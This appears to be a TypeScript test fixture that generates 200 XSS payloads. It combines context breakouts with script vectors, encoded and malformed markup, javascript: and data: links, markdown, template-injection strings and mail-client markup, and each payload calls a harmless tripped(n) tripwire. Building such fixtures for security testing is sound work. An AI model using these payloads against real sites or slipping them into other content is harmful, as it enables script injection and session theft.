/** A text that would run something, load something or become an element if anything took it for more than text. */
export interface Payload {
  technique: string;
  text: string;
}

/** Where a page might put the text, and what leads out of there. */
const WAYS_OUT = ['', '">', "'>", '</textarea>', '</title>', '</script>', '--></style>', ']]>'];

/** `@` becomes the tripwire. Each also marks the element it would make: HTML without script is found as well. */
const VECTORS = [
  '<script data-tripped>@</script>',
  '<img data-tripped src=x onerror=@>',
  '<svg data-tripped onload=@>',
  '<svg data-tripped><script>@</script></svg>',
  '<svg data-tripped><animate onbegin=@ attributeName=x dur=1s>',
  '<details data-tripped open ontoggle=@>x</details>',
  '<iframe data-tripped srcdoc="<script>parent.@</script>"></iframe>',
  '<iframe data-tripped src="javascript:parent.@"></iframe>',
  '<input data-tripped autofocus onfocus=@>',
  '<video data-tripped><source onerror=@></video>',
  '<body data-tripped onpageshow=@>',
  '<math data-tripped><mtext><img src=x onerror=@></mtext></math>',
  '<object data-tripped data="javascript:@"></object>',
  '<x data-tripped style="animation:x 1s" onanimationstart=@>x</x>',
  '<template data-tripped shadowrootmode=open><img src=x onerror=@></template>',
];

/** Without a way out in front: what parsers and filters are known to stumble over. */
const ODDITIES: Record<string, string[]> = {
  'broken markup': [
    '<img data-tripped src=x onerror=@ //',
    '<<script data-tripped>@//<</script>',
    '<img data-tripped/src=x/onerror=@>',
    '<img data-tripped\tsrc=x\tonerror=@>',
    '<IMG DATA-TRIPPED SRC=x ONERROR=@>',
    '<scr<script>ipt data-tripped>@</scr</script>ipt>',
    '<noscript><p title="</noscript><img data-tripped src=x onerror=@>">',
    '<select data-tripped><style><img src=x onerror=@></style></select>',
    '<table data-tripped background="javascript:@"><tr><td>x',
    '<a data-tripped href=x onclick=@ autofocus onfocus=@ tabindex=1>x</a>',
    '<p data-tripped style="background:url(javascript:@)">x</p>',
    '<style data-tripped>@import "javascript:@";</style>',
    '<link data-tripped rel=stylesheet href="https://tripped.invalid/x.css">',
    '<meta data-tripped http-equiv=refresh content="0;url=javascript:@">',
    '<base data-tripped href="https://tripped.invalid/">',
    '<form data-tripped action="javascript:@"><button autofocus>x</button></form>',
  ],
  'encoded markup': [
    '&lt;img data-tripped src=x onerror=@&gt;',
    '&#60;img data-tripped src=x onerror=@&#62;',
    '&#x3c;script data-tripped&#x3e;@&#x3c;/script&#x3e;',
    '%3Cimg%20data-tripped%20src=x%20onerror=@%3E',
    '\\u003cimg data-tripped src=x onerror=@\\u003e',
    '\\x3cimg data-tripped src=x onerror=@\\x3e',
    '+ADw-script data-tripped+AD4-@+ADw-/script+AD4-',
    '\uff1cimg data-tripped src=x onerror=@\uff1e',
    '<img data-tripped src=x onerror=&#64;>',
    '\u003cimg data-tripped src=x onerror=@\u003e',
  ],
  links: [
    'javascript:@',
    'JaVaScRiPt:@',
    ' javascript:@',
    'java\tscript:@',
    'javascript://example.com/%0a@',
    'vbscript:@',
    'data:text/html,<script>@</script>',
    'data:image/svg+xml,<svg onload=@>',
    'https://example.com/"onmouseover="@',
    "https://example.com/'onmouseover='@",
    'https://example.com/<img data-tripped src=x onerror=@>',
    'https://user@tripped.invalid:443/@',
    'blob:https://example.com/@',
    '//tripped.invalid/x',
    'mailto:x@example.com?body=<script>@</script>',
    'handoff-desk://chats/"><img data-tripped src=x onerror=@>',
  ],
  markdown: [
    '[x](javascript:@)',
    '![x](https://tripped.invalid/x.png)',
    '![x" onerror="@](x)',
    '[x]: javascript:@\n[x]',
    '<javascript:@>',
    '`<img data-tripped src=x onerror=@>`',
    '[x](data:text/html,<script>@</script>)',
  ],
  templates: [
    '{{constructor.constructor("@")()}}',
    `$${'{@}'}`,
    '#{@}',
    '<%= @ %>',
    '{{{<img data-tripped src=x onerror=@>}}}',
    `[[$${'{@}'}]]`,
    '{"type":"img","props":{"src":"x","onError":"@"}}',
    '{"__html":"<img data-tripped src=x onerror=@>"}',
    'dangerouslySetInnerHTML={{__html:"<img data-tripped src=x onerror=@>"}}',
  ],
  'mail and desktop markup': [
    '<b data-tripped>bold</b>',
    '<a data-tripped href="file:///etc/passwd">x</a>',
    '<img data-tripped src="https://tripped.invalid/seen.png">',
    '=?utf-8?Q?=3Cimg data-tripped src=3Dx onerror=3D@=3E?=',
    '<!--[if mso]><img data-tripped src=x onerror=@><![endif]-->',
    '<?xml version="1.0"?><svg data-tripped onload=@/>',
    '<style>*{background:url(https://tripped.invalid/x)}</style>',
    '</td></tr></table><img data-tripped src=x onerror=@>',
    '<center data-tripped><font color=red>x</font></center>',
    '<bgsound data-tripped src="javascript:@">',
    '<marquee data-tripped onstart=@>x</marquee>',
    '<image data-tripped src=x onerror=@>',
    '<isindex data-tripped type=image src=x onerror=@>',
    '<embed data-tripped src="javascript:@">',
    '<frameset data-tripped onload=@>',
    '<keygen data-tripped autofocus onfocus=@>',
    '<portal data-tripped src="javascript:@">',
    '<audio data-tripped src=x onerror=@>',
    '<dialog data-tripped open onclose=@><form method=dialog><button autofocus>x</button></form></dialog>',
    '<button data-tripped popovertarget=x onbeforetoggle=@>x</button><p popover id=x onbeforetoggle=@>x</p>',
    '<svg data-tripped><foreignObject><body onload=@></foreignObject></svg>',
    '<svg data-tripped><use href="data:image/svg+xml,<svg id=x onload=@>#x"></svg>',
  ],
};

const written: Payload[] = [
  ...WAYS_OUT.flatMap((out) =>
    VECTORS.map((vector) => ({ technique: `way out ${out || 'none'}`, text: out + vector })),
  ),
  ...Object.entries(ODDITIES).flatMap(([technique, texts]) => texts.map((text) => ({ technique, text }))),
];

/** Two hundred, each with its number in the call it would make. */
export const payloads: Payload[] = written.map(({ technique, text }, index) => ({
  technique,
  text: text.replaceAll('@', `tripped(${index})`),
}));
